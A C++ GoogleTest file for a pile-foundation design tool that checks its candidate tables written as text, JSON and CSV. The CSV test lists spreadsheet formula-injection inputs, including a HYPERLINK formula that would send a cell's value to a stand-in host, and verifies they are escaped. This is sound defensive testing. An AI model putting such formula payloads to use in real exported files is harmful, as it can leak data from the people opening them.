#include "candidate_file.h"
#include "candidate_filter.h"
#include "candidate_sort.h"
#include "file_names.h"
#include "sweep.h"
#include "text_file.h"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

namespace {

std::string ReadFile(const std::filesystem::path &path)
{
    std::ifstream file(path, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>());
}

std::string Golden(const std::string &name)
{
    return ReadFile(std::filesystem::path(PILECALC_TEST_DATA) / "optimize" / name);
}

std::string Lines(const TCandidateFile &file)
{
    std::string text;
    ForEachCandidateFileLine(file, [&text](std::string_view line) {
        text += line;
        text += '\n';
    });
    return text;
}

// Every section once (two rectangles), each under both bases: ten candidates, "ZH-01" to "ZH-10".
TOptionTable MixedSections()
{
    TOptionTable options = DefaultOptionTable();
    const auto set = [&options](int row, const char *minimum, const char *maximum,
                                const char *step) {
        options[row].minimum = minimum;
        options[row].maximum = maximum;
        options[row].step = step;
    };
    set(0, "1", "4", "1");
    set(1, "1000", "1000", "0");
    set(2, "500", "500", "0");
    set(3, "2000", "2000", "0");
    set(4, "1000", "1500", "500");
    set(5, "1200", "1200", "0");
    set(6, "1.0d", "1.0d", "0d");
    set(7, "35", "35", "0");
    set(8, "2", "2", "0");
    set(9, "1", "2", "1");
    set(10, "2", "2", "0");
    set(11, "0.75", "0.75", "0");
    return options;
}

TEST(CandidateFile, RawFileWithoutOverburden)
{
    const TOptionTable options = MixedSections();
    const TSweepResult sweep = RunSweep(options, TPileInput {});
    ASSERT_EQ(sweep.table.Size(), 10u);
    TCandidateFile file;
    file.table = &sweep.table;
    file.soilAppendix = WantsSoilAppendix(options);
    file.timeStamp = "2024/3/5 14:07:09";
    EXPECT_EQ(Lines(file), Golden("raw_candidates.txt"));
}

TEST(CandidateFile, FilteredFileWithTheSoilAppendix)
{
    TOptionTable options = MixedSections();
    options[OptionRow::Overburden].minimum = "1";
    options[OptionRow::RaWindow].minimum = "10000";
    options[OptionRow::RaWindow].maximum = "30000";
    TPileInput base;
    base.soilLayers = {{"5.00", "200.00"}, {"3.50", "120"}};
    const TSweepResult sweep = RunSweep(options, base);
    const TFilterResult filter = FilterCandidates(sweep.table, options);
    ASSERT_EQ(filter.status, "筛选完成，桩数：6 根");
    TCandidateFile file;
    file.kind = TCandidateFileKind::Filtered;
    file.table = &filter.filtered;
    file.soilAppendix = WantsSoilAppendix(options);
    file.soilLayers = base.soilLayers;
    file.timeStamp = "2024/3/5 14:07:09";
    EXPECT_EQ(Lines(file), Golden("filtered_candidates.txt"));
}

TEST(CandidateFile, SavedInTheSystemCodePageUnderItsName)
{
    const TSweepResult sweep = RunSweep(MixedSections(), TPileInput {});
    TCandidateFile file;
    file.table = &sweep.table;
    file.timeStamp = "2024/3/5 14:07:09";
    const std::filesystem::path folder =
        std::filesystem::path(testing::TempDir()) / "pilecalc_candidate_file";
    std::filesystem::create_directories(folder);
    ASSERT_EQ(SaveCandidateFile(folder, file), std::nullopt);

    std::string expected;
    ForEachCandidateFileLine(
        file, [&expected](std::string_view line) { expected += ToSystemCodePage(line) + "\r\n"; });
    EXPECT_EQ(ReadFile(FilePath(folder, FileNames::RawCandidates)), expected);

    const auto failure = SaveCandidateFile(folder / "missing", file);
    ASSERT_TRUE(failure);
    EXPECT_NE(failure->find("No such file or directory"), std::string::npos) << *failure;
    std::filesystem::remove_all(folder);
}

// Tables of every kind a sweep gives a file: all sections, both bases, thin sockets, the overburden
// with its appendix, every precision, more than one block of bytes, filtered and sorted.
struct TFileCase
{
    std::string name;
    TSweepResult sweep;
    TCandidateFile file;
};

std::vector<TFileCase> FileCases()
{
    std::vector<TFileCase> cases;
    const auto add = [&cases](std::string name, const TOptionTable &options,
                              const TPileInput &base) {
        TFileCase &c = cases.emplace_back();
        c.name = std::move(name);
        c.sweep = RunSweep(options, base);
        c.file.table = &c.sweep.table;
        c.file.soilAppendix = WantsSoilAppendix(options);
        c.file.soilLayers = base.soilLayers;
        c.file.timeStamp = "2024/3/5 14:07:09";
    };
    TPileInput base;
    add("mixed sections", MixedSections(), base);
    TOptionTable options = DefaultOptionTable();
    options[OptionRow::Diameter].maximum = "2000";
    options[OptionRow::Diameter].step = "100";
    options[OptionRow::SocketDepth].minimum = "200";
    options[OptionRow::SocketDepth].maximum = "2000";
    options[OptionRow::SocketDepth].step = "150";
    options[OptionRow::Overburden].minimum = "1";
    base.soilLayers = {{"5.00", "200.00"}, {"3.50", "120"}};
    for (const TRoundingMode rounding : {TRoundingMode::TwoDecimals, TRoundingMode::Tens}) {
        base.rounding = rounding;
        add("overburden, rounding " + std::to_string(static_cast<int>(rounding)), options, base);
    }
    return cases;
}

std::string Encoded(const TCandidateFile &file, TLineEncoding encoding)
{
    std::string bytes;
    ForEachCandidateFileLine(file, [&](std::string_view line) {
        bytes += encoding == TLineEncoding::Utf8 ? std::string(line) : ToSystemCodePage(line);
        bytes += encoding == TLineEncoding::Utf8 ? "\n" : "\r\n";
    });
    return bytes;
}

// The file written in blocks is the file of the line writer, byte for byte, in either encoding,
// raw, filtered and sorted.
TEST(CandidateFile, BlocksHoldTheLinesOfTheLineWriter)
{
    std::vector<TFileCase> cases = FileCases();
    for (TFileCase &c : cases) {
        SCOPED_TRACE(c.name);
        ASSERT_FALSE(c.sweep.table.Empty());
        TSortState sort;
        TCandidateTable sorted = c.sweep.table;
        ClickHeader(sorted, sort, CandidateColumn::Ra);
        // Lists that end in every part of the chunks of rows the threads make (of the first large
        // table): one row, past a chunk of 8192 rows, past a round of two chunks, within one.
        std::vector<TCandidateTable> parts;
        for (const std::size_t size :
             {std::size_t {1}, std::size_t {8193}, std::size_t {16385}, std::size_t {24581}}) {
            if (size < c.sweep.table.Size() && &c == &cases.front() + 1) {
                TCandidateTable &part = parts.emplace_back(c.sweep.table);
                part.order.resize(size);
            }
        }
        std::vector<const TCandidateTable *> tables = {&c.sweep.table, &sorted};
        for (const TCandidateTable &part : parts)
            tables.push_back(&part);
        for (const TCandidateTable *table : tables) {
            c.file.table = table;
            for (const TLineEncoding encoding :
                 {TLineEncoding::Utf8, TLineEncoding::SystemCodePage}) {
                std::string bytes;
                std::size_t blocks = 0;
                WriteCandidateFile(c.file, encoding, [&](std::string_view block) {
                    bytes += block;
                    ++blocks;
                });
                EXPECT_EQ(bytes, Encoded(c.file, encoding));
                if (bytes.size() > (2 << 20)) {
                    EXPECT_GT(blocks, 1u);
                }
            }
        }
    }
}

// The JSON rows are the arrays of the rows' texts as the JSON library writes them.
TEST(CandidateFile, JsonRowsAreTheArraysOfTheTexts)
{
    for (const TFileCase &c : FileCases()) {
        SCOPED_TRACE(c.name);
        const TCandidateTable &table = c.sweep.table;
        std::string expected;
        for (std::size_t k = 0; k < table.Size(); ++k) {
            expected += nlohmann::json(CandidateTexts(table.Row(k), table.context)).dump();
            expected += k + 1 < table.Size() ? ",\n" : "\n";
        }
        std::string bytes;
        WriteCandidateJsonRows(table, TLineEncoding::Utf8,
                               [&bytes](std::string_view block) { bytes += block; });
        EXPECT_EQ(bytes, expected);
    }
}

TEST(CandidateFile, CsvCellsAreQuotedAndKeptFromSpreadsheetFormulas)
{
    const std::pair<std::string, std::string> cases[] = {
        {"ZH-0001", "ZH-0001"},
        {"", ""},
        {"a,b", "\"a,b\""},
        {"say \"x\"", "\"say \"\"x\"\"\""},
        {"two\nlines", "\"two\nlines\""},
        // Plain numbers stay as they are, whatever their sign.
        {"-5", "-5"},
        {"+3.25", "+3.25"},
        {"-1.5E3", "-1.5E3"},
        {"25%", "25%"},
        // A formula, or what a spreadsheet could take for one, gets an apostrophe in front.
        {"-", "'-"},
        {"=1+1", "'=1+1"},
        {"+A1", "'+A1"},
        {"-2+3", "'-2+3"},
        {"@SUM(1+1)", "'@SUM(1+1)"},
        {"\tx", "'\tx"},
        {"\r=x", "\"'\r=x\""},
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"a\")",
         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"a\"\")\""},
        {"'=x", "''=x"},
        {"'x", "'x"},
    };
    for (const auto &[text, cell] : cases)
        EXPECT_EQ(CandidateCsvCell(text), cell) << text;

    // A circle's c and the soil columns without overburden are "-".
    const TSweepResult sweep = RunSweep(MixedSections(), TPileInput {});
    std::string csv;
    WriteCandidateCsv(sweep.table, TLineEncoding::Utf8,
                      [&csv](std::string_view block) { csv += block; });
    const std::size_t firstRow = csv.find('\n') + 1;
    EXPECT_EQ(csv.substr(0, firstRow),
              "桩编号,截面类型,d|a(mm),c|b(mm),Ra(kN),hr(m),frk(MPa),风化程度,插值依据,完整程度,"
              "系数 c1,系数 c2,Qsr(kN),侧阻占比,Qpr(kN),端阻占比,Qrk(kN),Rsk(kN),土侧阻占比,"
              "备注\n");
    const std::string row = csv.substr(firstRow, csv.find('\n', firstRow) - firstRow);
    EXPECT_EQ(row.substr(0, row.find(',', row.find(',', row.find(',') + 1) + 1) + 4),
              "ZH-01,圆  桩,1000,'-,");
    EXPECT_EQ(row.substr(row.size() - 7), ",'-,'-,");
}

} // namespace
